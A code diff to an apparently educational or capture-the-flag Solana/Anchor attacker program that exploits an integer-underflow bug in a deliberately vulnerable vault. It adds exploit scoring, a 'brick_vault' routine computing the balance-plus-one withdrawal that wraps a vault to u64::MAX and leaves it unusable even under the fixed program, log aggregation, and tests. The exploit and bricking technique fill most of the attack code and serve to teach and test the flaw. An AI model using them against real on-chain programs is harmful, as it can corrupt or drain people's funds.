@@ -39,13 +39,40 @@ pub mod unsafe_arithmetic_attacker {
     ///
     /// **Against vulnerable program**: Succeeds (balance wraps to u64::MAX)
     /// **Against fixed program**: Fails (checked_sub prevents underflow)
-    pub fn trigger_underflow(ctx: Context<UnderflowContext>, excessive_amount: u64) -> Result<()> {
+    ///
+    /// Returns (via return data) whether the exploit landed, so automated
+    /// harnesses can score the attack without fetching accounts. The first
+    /// call arms the log and returns `false`; a later call against the same
+    /// log scores it: `true` iff the vault's balance GREW past the recorded
+    /// pre-attack balance — the unmistakable signature of a wrapped
+    /// subtraction.
+    pub fn trigger_underflow(ctx: Context<UnderflowContext>, excessive_amount: u64) -> Result<bool> {
         msg!("🎯 Attacker: Attempting integer underflow exploit...");
         msg!("   Attacker vault: {}", ctx.accounts.attacker_vault.key());
         msg!("   Attempting to withdraw: {} lamports", excessive_amount);
-        
+
+        // --- SCORING CALL ---
+        // A log that already records an attempt means the attack transaction
+        // ran in between: report the verdict instead of re-arming the log.
+        if ctx.accounts.attack_log.withdrawal_amount != 0 {
+            let log = &ctx.accounts.attack_log;
+            let data = ctx.accounts.attacker_vault.try_borrow_data()?;
+            let exploited = match read_vault_balance(&data) {
+                Some(post) => underflow_exploited(log.original_balance, post),
+                None => false,
+            };
+            msg!(
+                "🏁 Scoring: exploit {}",
+                if exploited { "landed ✅" } else { "was blocked ❌" }
+            );
+            return Ok(exploited);
+        }
+
         // --- ATTACK STEP 1: Show current balance ---
-        let current_balance = ctx.accounts.attacker_vault.lamports();
+        let current_balance = {
+            let data = ctx.accounts.attacker_vault.try_borrow_data()?;
+            read_vault_balance(&data).unwrap_or_else(|| ctx.accounts.attacker_vault.lamports())
+        };
         msg!("   Current balance: {} lamports", current_balance);
         
         // --- ATTACK STEP 2: Verify exploit conditions ---
@@ -89,8 +116,43 @@ pub mod unsafe_arithmetic_attacker {
         
         msg!("✅ Attacker: Attack execution completed");
         msg!("   (If vulnerable, vault balance is now ~infinite)");
-        
-        Ok(())
+
+        // Armed, not yet scored.
+        Ok(false)
+    }
+
+    /// Computes the exact withdrawal that bricks a vault.
+    ///
+    /// Withdrawing `balance + 1` from the vulnerable program wraps the
+    /// balance to precisely `u64::MAX` — not to steal the difference, but
+    /// to CORRUPT the vault. Once the stored balance is nonsensically
+    /// large, even the FIXED program can't operate on it: every deposit
+    /// trips the balance cap, and walking the balance back down would
+    /// take a withdrawal of ~18 quintillion lamports no vault can pay
+    /// out. The vault is dead until an admin migration resets it.
+    ///
+    /// Returns the lethal amount (via return data) so the harness can
+    /// feed it straight into the victim's `withdraw`.
+    pub fn brick_vault(ctx: Context<BrickVault>) -> Result<u64> {
+        let data = ctx.accounts.attacker_vault.try_borrow_data()?;
+        let balance = read_vault_balance(&data).ok_or(AttackError::NotAVault)?;
+
+        let lethal_amount = balance
+            .checked_add(1)
+            .ok_or(AttackError::AlreadyBricked)?;
+
+        msg!("🧱 Attacker: computing the vault-bricking withdrawal...");
+        msg!("   Current balance: {} lamports", balance);
+        msg!("   Lethal withdrawal: {} lamports", lethal_amount);
+        msg!(
+            "   {} - {} wraps to {} (u64::MAX)",
+            balance,
+            lethal_amount,
+            balance.wrapping_sub(lethal_amount)
+        );
+        msg!("   A balance at u64::MAX is unrecoverable without a migration.");
+
+        Ok(lethal_amount)
     }
 
     /// Initializes the attack log to track underflow attempts
@@ -106,6 +168,107 @@ pub mod unsafe_arithmetic_attacker {
         msg!("Attack log initialized for: {}", ctx.accounts.attacker.key());
         Ok(())
     }
+
+    /// Aggregates any number of `AttackLog` PDAs passed via `remaining_accounts`
+    ///
+    /// Useful for CTF scoring: a single call tallies how many underflow
+    /// attempts were recorded and how much was attempted in total. The
+    /// aggregate is returned via return data (Anchor serializes the return
+    /// value), so off-chain harnesses don't need to fetch each log.
+    ///
+    /// Every log is validated before it is counted: it must be owned by this
+    /// program and carry the `AttackLog` discriminator, so a foreign or
+    /// forged account can't inflate the score.
+    pub fn summarize_attacks<'info>(
+        ctx: Context<'_, '_, 'info, 'info, SummarizeAttacks<'info>>,
+    ) -> Result<AttackSummary> {
+        let mut summary = AttackSummary {
+            count: 0,
+            total_attempted: 0,
+        };
+
+        for info in ctx.remaining_accounts.iter() {
+            // Owner check first, with a dedicated error so harnesses can tell
+            // "foreign account" apart from "corrupt log data".
+            require_keys_eq!(*info.owner, crate::id(), AttackError::ForeignLog);
+
+            // Discriminator + deserialization check.
+            let log: Account<AttackLog> = Account::try_from(info)?;
+
+            summary.count += 1;
+            summary.total_attempted = summary
+                .total_attempted
+                .checked_add(log.withdrawal_amount)
+                .ok_or(AttackError::SummaryOverflow)?;
+        }
+
+        msg!(
+            "Summarized {} attack logs totalling {} attempted lamports",
+            summary.count,
+            summary.total_attempted
+        );
+        Ok(summary)
+    }
+}
+
+/// Reads the `balance` field out of a victim `Vault` account's raw bytes
+/// (discriminator 8 | balance 8 | owner 32). Returns `None` when the data
+/// is too short to be a vault.
+pub fn read_vault_balance(data: &[u8]) -> Option<u64> {
+    if data.len() < 8 + 8 {
+        return None;
+    }
+    Some(u64::from_le_bytes(data[8..16].try_into().unwrap()))
+}
+
+/// The underflow signature: a WITHDRAWAL that leaves the balance larger
+/// than it started can only mean the subtraction wrapped.
+pub fn underflow_exploited(pre_balance: u64, post_balance: u64) -> bool {
+    post_balance > pre_balance
+}
+
+/// [`common::Exploit`] registration for the underflow attack. Detecting a
+/// wrap requires knowing where the balance started, so the pre-attack value
+/// rides along on the exploit itself; the post-attack value is read out of
+/// the target bytes the harness hands over.
+pub struct UnderflowExploit {
+    pub pre_balance: u64,
+}
+
+impl common::Exploit for UnderflowExploit {
+    fn name(&self) -> &'static str {
+        "arithmetic-underflow"
+    }
+
+    fn run(&self, ctx: &common::ExploitCtx) -> common::ExploitResult {
+        let Some(post_balance) = read_vault_balance(ctx.target_data) else {
+            return Ok(common::Outcome::blocked("target too short to be a Vault"));
+        };
+        Ok(if underflow_exploited(self.pre_balance, post_balance) {
+            common::Outcome::exploited(format!(
+                "withdrawal wrapped the balance from {} up to {}",
+                self.pre_balance, post_balance
+            ))
+        } else {
+            common::Outcome::blocked("balance only moved downward; the subtraction was checked")
+        })
+    }
+}
+
+impl common::SuccessOracle for UnderflowExploit {
+    /// Balance wrapped: the stored balance ended up ABOVE where it started,
+    /// which no honest withdrawal can do.
+    fn succeeded(&self, ctx: &common::ExploitCtx) -> bool {
+        read_vault_balance(ctx.target_data)
+            .is_some_and(|post| underflow_exploited(self.pre_balance, post))
+    }
+}
+
+/// Aggregate statistics over a batch of attack logs
+#[derive(AnchorSerialize, AnchorDeserialize, Clone, Copy, PartialEq, Eq, Debug)]
+pub struct AttackSummary {
+    pub count: u64,            // Number of valid logs summarized
+    pub total_attempted: u64,  // Sum of all attempted withdrawal amounts
 }
 
 /// Context for executing the underflow attack
@@ -131,6 +294,26 @@ pub struct UnderflowContext<'info> {
     pub attacker: Signer<'info>,
 }
 
+/// Context for computing the vault-bricking withdrawal. Read-only: the
+/// damage is done by the victim program, not this helper.
+#[derive(Accounts)]
+pub struct BrickVault<'info> {
+    /// CHECK: raw on purpose — the victim vault is inspected byte-wise, the
+    /// same way `trigger_underflow` reads it.
+    pub attacker_vault: UncheckedAccount<'info>,
+
+    /// The attacker planning the exploit
+    pub attacker: Signer<'info>,
+}
+
+/// Context for summarizing attack logs; the logs themselves arrive via
+/// `remaining_accounts` so any number can be batched into one call.
+#[derive(Accounts)]
+pub struct SummarizeAttacks<'info> {
+    /// Whoever is tallying the score
+    pub attacker: Signer<'info>,
+}
+
 /// Context for initializing the attack log
 #[derive(Accounts)]
 pub struct InitializeAttackLog<'info> {
@@ -161,15 +344,62 @@ pub struct AttackLog {
     pub timestamp: i64,                  // When the attack occurred
 }
 
+impl AttackLog {
+    /// Folds another attempt into this log, turning it into a running
+    /// summary for reporting: attempted amounts are summed (checked, with
+    /// the same overflow error `summarize_attacks` uses), the latest
+    /// timestamp wins, and the pre-attack balance of the EARLIEST attempt
+    /// is kept — that is the balance the whole campaign started from.
+    ///
+    /// Merging only makes sense within one attacker's own logs (they are
+    /// isolated per attacker by PDA seeds), so mixed attackers are refused.
+    /// If the attempts hit different vaults, `target_vault` degrades to the
+    /// default key, meaning "multiple targets".
+    pub fn merge(&mut self, other: &AttackLog) -> Result<()> {
+        require_keys_eq!(self.attacker, other.attacker, AttackError::MixedAttackers);
+
+        if other.timestamp < self.timestamp {
+            self.original_balance = other.original_balance;
+        }
+        self.timestamp = self.timestamp.max(other.timestamp);
+
+        self.withdrawal_amount = self
+            .withdrawal_amount
+            .checked_add(other.withdrawal_amount)
+            .ok_or(AttackError::SummaryOverflow)?;
+
+        if self.target_vault != other.target_vault {
+            self.target_vault = Pubkey::default();
+        }
+
+        // Keep the wrap prediction consistent with the merged figures.
+        self.expected_wrapped_balance = self.original_balance.wrapping_sub(self.withdrawal_amount);
+        Ok(())
+    }
+}
+
 #[error_code]
 pub enum AttackError {
     #[msg("Withdrawal amount must exceed balance for underflow attack")]
     NotExcessive,
     #[msg("Underflow did not occur (unexpected - vulnerable version should wrap)")]
     NoUnderflow,
+    #[msg("Attack log account is not owned by this attacker program")]
+    ForeignLog,
+    #[msg("Attack summary overflowed while adding attempted amounts")]
+    SummaryOverflow,
+    #[msg("Account data is too short to be a Vault")]
+    NotAVault,
+    #[msg("Vault balance is already u64::MAX; nothing left to brick")]
+    AlreadyBricked,
+    #[msg("Cannot merge attack logs from different attackers")]
+    MixedAttackers,
 }
 
 #[cfg(test)]
+// The victim crates legitimately have "unsafe" in their names; shortening the
+// aliases is intentional and not a safety claim.
+#[allow(clippy::unsafe_removed_from_name)]
 mod tests {
     use super::*;
     use anchor_lang::solana_program::account_info::AccountInfo;
@@ -204,11 +434,392 @@ mod tests {
 
     fn serialize_vault(admin: Pubkey, balance: u64) -> Vec<u8> {
         let mut data = <unsafe_arithmetic_fix::Vault as Discriminator>::DISCRIMINATOR.to_vec();
-        let state = unsafe_arithmetic_fix::Vault { balance, owner: admin };
+        let state = unsafe_arithmetic_fix::Vault { balance, owner: admin, frozen: false };
+        data.extend_from_slice(&state.try_to_vec().unwrap());
+        data
+    }
+
+    fn serialize_settings(owner: Pubkey, paused: bool) -> Vec<u8> {
+        let mut data = <signer_privilege_fix::Settings as Discriminator>::DISCRIMINATOR.to_vec();
+        let state = signer_privilege_fix::Settings { owner, paused };
         data.extend_from_slice(&state.try_to_vec().unwrap());
         data
     }
 
+    fn serialize_attack_log(attacker: Pubkey, withdrawal_amount: u64) -> Vec<u8> {
+        let mut data = <AttackLog as Discriminator>::DISCRIMINATOR.to_vec();
+        let log = AttackLog {
+            attacker,
+            target_vault: Pubkey::new_unique(),
+            original_balance: 10,
+            withdrawal_amount,
+            expected_wrapped_balance: 10u64.wrapping_sub(withdrawal_amount),
+            timestamp: 0,
+        };
+        data.extend_from_slice(&log.try_to_vec().unwrap());
+        data
+    }
+
+    #[test]
+    fn summarize_attacks_aggregates_valid_logs() {
+        let program_id = crate::id();
+        let attacker = Pubkey::new_unique();
+
+        let attacker_ai = Box::leak(Box::new(make_account(
+            attacker,
+            Pubkey::new_unique(),
+            true,
+            false,
+            vec![],
+        )));
+        let log_one = make_account(
+            Pubkey::new_unique(),
+            program_id,
+            false,
+            false,
+            serialize_attack_log(attacker, 11),
+        );
+        let log_two = make_account(
+            Pubkey::new_unique(),
+            program_id,
+            false,
+            false,
+            serialize_attack_log(attacker, 31),
+        );
+        let remaining: &[AccountInfo] = Box::leak(vec![log_one, log_two].into_boxed_slice());
+
+        let mut accounts = SummarizeAttacks {
+            attacker: anchor_lang::prelude::Signer::try_from(&*attacker_ai).unwrap(),
+        };
+        let ctx = Context::new(&program_id, &mut accounts, remaining, SummarizeAttacksBumps {});
+
+        let summary = unsafe_arithmetic_attacker::summarize_attacks(ctx).unwrap();
+        assert_eq!(
+            summary,
+            AttackSummary {
+                count: 2,
+                total_attempted: 42,
+            }
+        );
+    }
+
+    #[test]
+    fn summarize_attacks_rejects_foreign_owned_log() {
+        let program_id = crate::id();
+        let attacker = Pubkey::new_unique();
+
+        let attacker_ai = Box::leak(Box::new(make_account(
+            attacker,
+            Pubkey::new_unique(),
+            true,
+            false,
+            vec![],
+        )));
+        // Correct log bytes, but the account belongs to some other program.
+        let foreign_log = make_account(
+            Pubkey::new_unique(),
+            Pubkey::new_unique(),
+            false,
+            false,
+            serialize_attack_log(attacker, 11),
+        );
+        let remaining: &[AccountInfo] = Box::leak(vec![foreign_log].into_boxed_slice());
+
+        let mut accounts = SummarizeAttacks {
+            attacker: anchor_lang::prelude::Signer::try_from(&*attacker_ai).unwrap(),
+        };
+        let ctx = Context::new(&program_id, &mut accounts, remaining, SummarizeAttacksBumps {});
+
+        let err = unsafe_arithmetic_attacker::summarize_attacks(ctx).unwrap_err();
+        assert!(format!("{}", err).contains("not owned by this attacker program"));
+    }
+
+    fn score_attack(post_attack_balance: u64) -> bool {
+        let program_id = crate::id();
+        let attacker = Pubkey::new_unique();
+
+        // The vault as the scoring call finds it, after the victim program
+        // processed (or rejected) the excessive withdrawal.
+        let vault_ai = Box::leak(Box::new(make_account(
+            Pubkey::new_unique(),
+            unsafe_arithmetic_vuln::id(),
+            false,
+            true,
+            serialize_vault(Pubkey::new_unique(), post_attack_balance),
+        )));
+        // An armed log: original balance 10, attempted withdrawal 11.
+        let log_ai = Box::leak(Box::new(make_account(
+            Pubkey::new_unique(),
+            program_id,
+            false,
+            true,
+            serialize_attack_log(attacker, 11),
+        )));
+        let attacker_ai = Box::leak(Box::new(make_account(
+            attacker,
+            Pubkey::new_unique(),
+            true,
+            false,
+            vec![],
+        )));
+
+        let mut accounts = UnderflowContext {
+            attacker_vault: UncheckedAccount::try_from(&*vault_ai),
+            attack_log: anchor_lang::prelude::Account::try_from(&*log_ai).unwrap(),
+            attacker: anchor_lang::prelude::Signer::try_from(&*attacker_ai).unwrap(),
+        };
+        let bumps = UnderflowContextBumps { attack_log: 255 };
+        let ctx = Context::new(&program_id, &mut accounts, &[], bumps);
+
+        unsafe_arithmetic_attacker::trigger_underflow(ctx, 11).unwrap()
+    }
+
+    #[test]
+    fn scoring_reports_true_after_the_vulnerable_wrap() {
+        // The vuln wrapped 10 - 11 to u64::MAX: balance grew, exploit landed.
+        assert!(score_attack(10u64.wrapping_sub(11)));
+    }
+
+    #[test]
+    fn scoring_reports_false_when_the_fix_blocked_the_attack() {
+        // The fix rejected the withdrawal, so the balance never moved.
+        assert!(!score_attack(10));
+    }
+
+    fn compute_brick_amount(balance: u64) -> Result<u64> {
+        let program_id = crate::id();
+
+        let vault_ai = Box::leak(Box::new(make_account(
+            Pubkey::new_unique(),
+            unsafe_arithmetic_vuln::id(),
+            false,
+            false,
+            serialize_vault(Pubkey::new_unique(), balance),
+        )));
+        let attacker_ai = Box::leak(Box::new(make_account(
+            Pubkey::new_unique(),
+            Pubkey::new_unique(),
+            true,
+            false,
+            vec![],
+        )));
+
+        let mut accounts = BrickVault {
+            attacker_vault: UncheckedAccount::try_from(&*vault_ai),
+            attacker: anchor_lang::prelude::Signer::try_from(&*attacker_ai).unwrap(),
+        };
+        let ctx = Context::new(&program_id, &mut accounts, &[], BrickVaultBumps {});
+
+        unsafe_arithmetic_attacker::brick_vault(ctx)
+    }
+
+    #[test]
+    fn brick_amount_is_one_past_the_balance() {
+        let lethal = compute_brick_amount(10).unwrap();
+        assert_eq!(lethal, 11);
+        // Fed into the vulnerable subtraction, it lands exactly on u64::MAX.
+        assert_eq!(10u64.wrapping_sub(lethal), u64::MAX);
+
+        // A vault already at u64::MAX can't be bricked further.
+        let err = compute_brick_amount(u64::MAX).unwrap_err();
+        assert!(format!("{}", err).contains("already u64::MAX"));
+    }
+
+    /// The point of bricking: once the stored balance is u64::MAX, the FIXED
+    /// program has no instruction that can bring the vault back to sanity.
+    #[test]
+    fn bricked_vault_is_unrecoverable_through_the_fix() {
+        let fix_id = unsafe_arithmetic_fix::id();
+        let owner = Pubkey::new_unique();
+
+        // The vault as the vulnerable wrap left it.
+        let vault_ai = Box::leak(Box::new(make_account(
+            Pubkey::new_unique(),
+            fix_id,
+            false,
+            true,
+            serialize_vault(owner, u64::MAX),
+        )));
+        let owner_ai = Box::leak(Box::new(make_account(
+            owner,
+            Pubkey::new_unique(),
+            true,
+            false,
+            vec![],
+        )));
+
+        // Depositing even a single lamport trips the balance cap: the cap
+        // check compares the corrupted balance against MAX_VAULT_BALANCE.
+        let mut accounts = unsafe_arithmetic_fix::DepositSafe {
+            vault: anchor_lang::prelude::Account::try_from(&*vault_ai).unwrap(),
+            owner: anchor_lang::prelude::Signer::try_from(&*owner_ai).unwrap(),
+        };
+        let ctx = Context::new(&fix_id, &mut accounts, &[], unsafe_arithmetic_fix::DepositSafeBumps {});
+        let err = fix_program::deposit(ctx, 1).unwrap_err();
+        assert!(format!("{}", err).contains("cap"));
+
+        // Withdrawing any amount the vault could plausibly hold barely
+        // dents the corruption — the balance stays astronomically over the
+        // cap, so the vault remains unusable. Only an amount near u64::MAX
+        // (which no vault can actually pay out) would restore sanity:
+        // recovery needs an admin reset, not arithmetic.
+        let settings_ai = Box::leak(Box::new(make_account(
+            Pubkey::new_unique(),
+            signer_privilege_fix::id(),
+            false,
+            false,
+            serialize_settings(owner, false),
+        )));
+        let mut accounts = unsafe_arithmetic_fix::WithdrawSafe {
+            vault: anchor_lang::prelude::Account::try_from(&*vault_ai).unwrap(),
+            owner: anchor_lang::prelude::Signer::try_from(&*owner_ai).unwrap(),
+            settings: anchor_lang::prelude::Account::try_from(&*settings_ai).unwrap(),
+        };
+        let ctx = Context::new(&fix_id, &mut accounts, &[], unsafe_arithmetic_fix::WithdrawSafeBumps {});
+        fix_program::withdraw(ctx, 1_000_000_000).unwrap();
+        assert!(accounts.vault.balance > unsafe_arithmetic_fix::MAX_VAULT_BALANCE);
+    }
+
+    #[test]
+    fn merge_combines_two_attempts_into_a_summary() {
+        let attacker = Pubkey::new_unique();
+        let vault = Pubkey::new_unique();
+
+        let mut first = AttackLog {
+            attacker,
+            target_vault: vault,
+            original_balance: 10,
+            withdrawal_amount: 11,
+            expected_wrapped_balance: 10u64.wrapping_sub(11),
+            timestamp: 100,
+        };
+        let second = AttackLog {
+            attacker,
+            target_vault: vault,
+            original_balance: u64::MAX, // balance after the first wrap
+            withdrawal_amount: 31,
+            expected_wrapped_balance: u64::MAX.wrapping_sub(31),
+            timestamp: 200,
+        };
+
+        first.merge(&second).unwrap();
+        assert_eq!(first.withdrawal_amount, 42);
+        assert_eq!(first.timestamp, 200);
+        // The campaign started from the earliest attempt's balance.
+        assert_eq!(first.original_balance, 10);
+        // Same vault throughout, so the target is preserved.
+        assert_eq!(first.target_vault, vault);
+        assert_eq!(first.expected_wrapped_balance, 10u64.wrapping_sub(42));
+    }
+
+    #[test]
+    fn merge_refuses_foreign_attackers_and_flags_mixed_targets() {
+        let attacker = Pubkey::new_unique();
+        let mut log = AttackLog {
+            attacker,
+            target_vault: Pubkey::new_unique(),
+            original_balance: 10,
+            withdrawal_amount: 11,
+            expected_wrapped_balance: 10u64.wrapping_sub(11),
+            timestamp: 100,
+        };
+
+        // Another attacker's log never folds in — isolation holds in the
+        // reporting layer just as it does at the PDA layer.
+        let foreign = AttackLog {
+            attacker: Pubkey::new_unique(),
+            ..log.clone()
+        };
+        let err = log.merge(&foreign).unwrap_err();
+        assert!(format!("{}", err).contains("different attackers"));
+        assert_eq!(log.withdrawal_amount, 11); // untouched
+
+        // Same attacker, different vault: the merged target degrades to the
+        // default key, signalling "multiple targets".
+        let other_vault = AttackLog {
+            attacker,
+            target_vault: Pubkey::new_unique(),
+            original_balance: 50,
+            withdrawal_amount: 7,
+            expected_wrapped_balance: 50u64.wrapping_sub(7),
+            timestamp: 50, // earlier than the current log
+        };
+        log.merge(&other_vault).unwrap();
+        assert_eq!(log.target_vault, Pubkey::default());
+        assert_eq!(log.withdrawal_amount, 18);
+        assert_eq!(log.timestamp, 100);
+        assert_eq!(log.original_balance, 50); // the earlier attempt's start
+    }
+
+    /// Each attacker's log lives at its own PDA, keyed by the attacker's
+    /// pubkey in the seeds. Two consequences worth pinning: distinct
+    /// attackers get distinct addresses, and the seeds constraint stops one
+    /// attacker from aiming an instruction at another's log.
+    #[test]
+    fn attack_logs_are_isolated_per_attacker() {
+        use std::collections::BTreeSet;
+
+        let program_id = crate::id();
+        let attacker_a = Pubkey::new_unique();
+        let attacker_b = Pubkey::new_unique();
+
+        let (log_a, bump_a) =
+            Pubkey::find_program_address(&[b"attack-log", attacker_a.as_ref()], &program_id);
+        let (log_b, _bump_b) =
+            Pubkey::find_program_address(&[b"attack-log", attacker_b.as_ref()], &program_id);
+        assert_ne!(log_a, log_b);
+
+        let vault_ai = make_account(
+            Pubkey::new_unique(),
+            unsafe_arithmetic_vuln::id(),
+            false,
+            true,
+            serialize_vault(Pubkey::new_unique(), 10),
+        );
+        let log_ai = make_account(log_a, program_id, false, true, serialize_attack_log(attacker_a, 0));
+
+        // Attacker B signs but passes A's log: the recomputed PDA for B's
+        // key can't match, so account validation fails on the seeds.
+        let b_ai = make_account(attacker_b, Pubkey::new_unique(), true, false, vec![]);
+        let infos: &[AccountInfo] = Box::leak(
+            vec![vault_ai.clone(), log_ai.clone(), b_ai].into_boxed_slice(),
+        );
+        let mut infos_ref = infos;
+        let mut bumps = UnderflowContextBumps { attack_log: 0 };
+        let result = UnderflowContext::try_accounts(
+            &program_id,
+            &mut infos_ref,
+            &[],
+            &mut bumps,
+            &mut BTreeSet::new(),
+        );
+        match result {
+            Err(err) => assert!(
+                format!("{}", err).contains("seeds constraint"),
+                "expected ConstraintSeeds, got: {}",
+                err
+            ),
+            Ok(_) => panic!("attacker B must not validate against A's log"),
+        }
+
+        // Attacker A passing their own log sails through, and the canonical
+        // bump is what lands in the bumps struct.
+        let a_ai = make_account(attacker_a, Pubkey::new_unique(), true, false, vec![]);
+        let infos: &[AccountInfo] =
+            Box::leak(vec![vault_ai, log_ai, a_ai].into_boxed_slice());
+        let mut infos_ref = infos;
+        let mut bumps = UnderflowContextBumps { attack_log: 0 };
+        UnderflowContext::try_accounts(
+            &program_id,
+            &mut infos_ref,
+            &[],
+            &mut bumps,
+            &mut BTreeSet::new(),
+        )
+        .unwrap_or_else(|err| panic!("attacker A must validate against their own log: {}", err));
+        assert_eq!(bumps.attack_log, bump_a);
+    }
+
     #[test]
     fn underflow_succeeds_against_vulnerable_program() {
         let program_id = unsafe_arithmetic_vuln::id();
@@ -271,13 +882,23 @@ mod tests {
             vec![],
         )));
 
+        // The fix now also requires the global pause settings account.
+        let settings_ai = Box::leak(Box::new(make_account(
+            Pubkey::new_unique(),
+            signer_privilege_fix::id(),
+            false,
+            false,
+            serialize_settings(owner, false),
+        )));
+
         let infos: Box<[AccountInfo<'static>]> = vec![(*vault_ai).clone(), (*owner_ai).clone()].into_boxed_slice();
         let infos_ref: &[AccountInfo] = Box::leak(infos);
 
         let vault = anchor_lang::prelude::Account::<unsafe_arithmetic_fix::Vault>::try_from(&*vault_ai).unwrap();
         let signer = anchor_lang::prelude::Signer::try_from(&*owner_ai).unwrap();
+        let settings = anchor_lang::prelude::Account::<signer_privilege_fix::Settings>::try_from(&*settings_ai).unwrap();
 
-        let mut accounts = unsafe_arithmetic_fix::WithdrawSafe { vault, owner: signer };
+        let mut accounts = unsafe_arithmetic_fix::WithdrawSafe { vault, owner: signer, settings };
         let ctx = Context::new(&program_id, &mut accounts, infos_ref, unsafe_arithmetic_fix::WithdrawSafeBumps {});
 
         let err = fix_program::withdraw(ctx, 11).unwrap_err();